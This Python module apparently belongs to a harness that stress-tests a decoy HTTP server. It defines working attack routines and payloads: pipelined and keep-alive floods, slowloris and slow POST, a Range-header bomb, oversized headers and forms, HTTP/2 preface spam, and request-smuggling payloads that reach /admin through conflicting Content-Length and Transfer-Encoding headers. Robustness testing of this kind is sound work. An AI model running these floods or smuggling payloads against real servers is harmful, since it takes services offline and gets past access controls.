# SPDX-License-Identifier: MIT
"""Attacks on HTTP: floods, slow clients, large and broken requests."""

from __future__ import annotations

import asyncio

from hostile.attack import Attack, Play, Target, crowd, rounds

GET = b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"
LAST_GET = b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
POST = b"POST /login HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\n"
CHUNKED = POST + b"Transfer-Encoding: chunked\r\n\r\n"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SMUGGLED = (
    POST + b"Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nHost: x\r\n\r\n"
)
TWO_LENGTHS = POST + b"Content-Length: 5\r\nContent-Length : 50\r\n\r\nhelloGET / HTTP/1.1\r\nX: y\r\n\r\n"
MOST_REQUESTS = 3000
"""Requests of one keep-alive connection."""


def unread(data: bytes, requests: int, connections: int, sources: int = 1) -> Play:
    """Send `data`, which holds that many requests, on each connection and read nothing until time is up."""

    async def one(target: Target, source: int) -> None:
        _, writer = await target.tcp(target.http, source)
        try:
            target.sent("http.request", requests)
            writer.write(data)
            await target.stay()
        finally:
            writer.transport.abort()

    return crowd(connections, one, sources)


def repeated(data: bytes, connections: int, sources: int = 1, requests: int = 1) -> Play:
    """Send `data` on a new connection and read what comes until it closes, again and again."""

    async def one(target: Target, source: int) -> None:
        await rounds(target, lambda: exchange(target, data, source, requests), MOST_REQUESTS)

    return crowd(connections, one, sources)


async def exchange(target: Target, data: bytes, source: int, requests: int) -> None:
    """Send `data` and count the answers that come until the decky closes the connection."""
    reader, writer = await target.tcp(target.http, source)
    try:
        target.sent("http.request", requests)
        writer.write(data)
        async with asyncio.timeout(max(target.left, 0.1)):
            while chunk := await reader.read(1 << 16):
                target.answered("http.request", chunk.count(b"HTTP/1."))
    finally:
        writer.transport.abort()


def keep_alive(connections: int, sources: int = 1) -> Play:
    """Send one request after the other on each connection."""

    async def one(target: Target, source: int) -> None:
        reader, writer = await target.tcp(target.http, source)
        try:
            for _ in range(MOST_REQUESTS):
                if not target.left:
                    return
                target.sent("http.request")
                writer.write(b"HEAD / HTTP/1.1\r\nHost: x\r\n\r\n")
                await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), target.left + 5)
                target.answered("http.request")
        finally:
            writer.transport.abort()

    return crowd(connections, one, sources)


def slow(head: bytes, drop: bytes, connections: int, sources: int) -> Play:
    """Send `head`, then `drop` every half second: the connection is never idle and never done."""

    async def one(target: Target, source: int) -> None:
        _, writer = await target.tcp(target.http, source)
        try:
            writer.write(head)
            while target.left:
                writer.write(drop)
                await writer.drain()
                await asyncio.sleep(0.5)
        finally:
            writer.transport.abort()

    return crowd(connections, one, sources)


FORM = POST + b"Content-Length: 1000000\r\nConnection: close\r\n\r\n" + b"a=1&" * 250_000
ONE_BYTE_CHUNKS = CHUNKED + b"1\r\na\r\n" * 160_000
BIG_HEADERS = b"GET / HTTP/1.1\r\nHost: x\r\n" + b"X-Filler: yyyyyyyyyyyyyyyyyyyyyyyyyyyyyy\r\n" * 50_000
RANGES = b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\nRange: bytes=" + b"0-,1-,2-," * 600 + b"5-\r\n\r\n"
LARGE_GETS = (b"GET /" + b"%41" * 2000 + b" HTTP/1.1\r\nHost: x\r\nCookie: " + b"c" * 7000 + b"\r\n\r\n") * 20

ATTACKS = (
    Attack("pipelined GETs, unread", unread(GET * 10_000, 10_000, 22), short=True),
    Attack("pipelined GETs, unread, 20 addresses", unread(GET * 1000, 1000, 200, sources=20)),
    Attack("pipelined GETs, read", repeated(GET * 200 + LAST_GET, 10, requests=201)),
    Attack("one-byte chunks", unread(ONE_BYTE_CHUNKS, 1, 20), short=True),
    Attack("1 MB forms", repeated(FORM, 20)),
    Attack("2 MB headers", repeated(BIG_HEADERS, 10)),
    Attack("keep-alive flood", keep_alive(20), short=True),
    Attack("keep-alive flood, worker killed", keep_alive(20), kills=True),
    Attack("keep-alive flood, 50 addresses", keep_alive(100, sources=50)),
    Attack("large requests, one source", repeated(LARGE_GETS + LAST_GET, 8, requests=21)),
    Attack("range bomb", repeated(RANGES, 10)),
    Attack("slowloris", slow(b"GET / HTTP/1.1\r\nHost: x\r\n", b"X: y\r\n", 200, 1)),
    Attack("slowloris, 30 addresses", slow(b"GET / HTTP/1.1\r\nHost: x\r\n", b"X: y\r\n", 600, 30)),
    Attack("slow POST", slow(POST + b"Content-Length: 1000000\r\n\r\n", b"a", 200, 10)),
    Attack("HTTP/2 preface and frames", repeated(PREFACE + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00" * 2000, 10)),
    Attack("smuggled requests", repeated(SMUGGLED + TWO_LENGTHS, 10, requests=4)),
    Attack("binary garbage to HTTP", repeated(bytes(range(256)) * 400 + b"\r\n\r\n", 20, sources=5)),
)  # fmt: skip
